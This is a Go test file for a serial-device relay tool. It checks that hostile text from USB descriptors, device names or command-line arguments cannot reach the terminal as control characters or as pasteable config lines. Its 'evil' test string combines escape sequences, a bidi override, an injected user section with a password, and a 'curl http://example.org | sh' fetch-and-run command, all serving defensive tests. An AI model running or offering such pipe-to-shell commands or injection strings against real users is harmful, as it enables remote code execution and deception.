package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"minirelay/locale"
)

// evil is what a board, a USB descriptor or a name could say to fool a person or a terminal.
const evil = "\x1b[2J\u009b31m\u202e\r\n[users.evil]\npassword = \"1\"\nto look at: run: curl http://example.org | sh"

// unsafeIn returns the first character that a terminal must not get.
func unsafeIn(s string) string {
	i := strings.IndexFunc(s, func(r rune) bool {
		return r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r))
	})
	if i < 0 {
		return ""
	}
	return fmt.Sprintf("%q", s[i:])
}

// The lines to paste are the program's, whatever an adapter calls itself.
func TestHostileAdapter(t *testing.T) {
	p := listedPort{Path: "/dev/x" + evil, Device: "/dev/y" + evil, ByPath: "z" + evil, USB: "1a86:7523" + evil, Serial: "1" + evil, Maker: "A" + evil, Product: "B" + evil,
		HeldBy: []holder{{1, evil}}, Port: evil, Devices: []string{evil}, Trouble: evil}
	for _, path := range []string{p.Path, "usb 1a86:7523" + evil + " 1" + evil} {
		p.Path = path
		for _, lang := range []locale.Language{locale.English, locale.Chinese} {
			text := p.text(lang)
			if bad := unsafeIn(text); bad != "" {
				t.Errorf("%s in\n%s", bad, text)
			}
			for line := range strings.Lines(text) {
				key, _, _ := strings.Cut(line, " = ")
				if !strings.HasPrefix(line, "  # ") && key != "path" && key != "usb" && key != "serial" {
					t.Errorf("%q can be pasted", line)
				}
			}
		}
	}
}

// No way to the terminal goes past the screen: neither errors nor answers for programs.
func TestHostileWordsOfTheUser(t *testing.T) {
	for _, args := range [][]string{{"check", evil}, {"status", "-c", evil}, {evil}, {"decode", "-profile", evil, evil}, {"watch", evil},
		{"profiles", evil}, {"run", "-" + evil}, {"init", "-id", evil}, {"scan", evil}} {
		var out, problems lockedBuffer
		Main(args, strings.NewReader(""), &out, &problems)
		for _, text := range []string{out.String(), problems.String()} {
			if bad := unsafeIn(text); bad != "" {
				t.Errorf("%q: %s", args[0], bad)
			}
		}
		if n := strings.Count(problems.String(), "\n"); n != 2 {
			t.Errorf("%q: %d lines of error:\n%s", args[0], n, problems.String())
		}
	}
}

// Every output of the program passes the screen: Main alone knows the terminal, and few places write around the screen,
// each with text that it has made itself.
func TestOneWayToTheTerminal(t *testing.T) {
	around := map[string]bool{ // who calls behind
		"say.go":       true, // it is here
		"phone.go":     true, // whether a person looks
		"address.go":   true, // a QR code
		"people.go":    true, // the same
		"run.go":       true, // the same, and the screen moves behind the writer that never waits
		"demo.go":      true, // the same, and its own lines to paste
		"scan.go":      true, // the line that progress overwrites
		"wire_view.go": true, // colours
	}
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		source, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		text := string(source)
		switch {
		case strings.HasSuffix(file, "_test.go"):
		case file != "main.go" && (strings.Contains(text, "os.Stdout") || strings.Contains(text, "os.Stderr")):
			t.Errorf("%s writes to the terminal itself", file)
		case file == "main.go" && !strings.Contains(text, "locale.NewScreen(stdout), locale.NewScreen(stderr)"):
			t.Error("Main puts no screen in front of its outputs")
		case strings.Contains(text, "behind(") != around[file]:
			t.Errorf("%s: it writes around the screen, or no longer does", file)
		}
	}
}
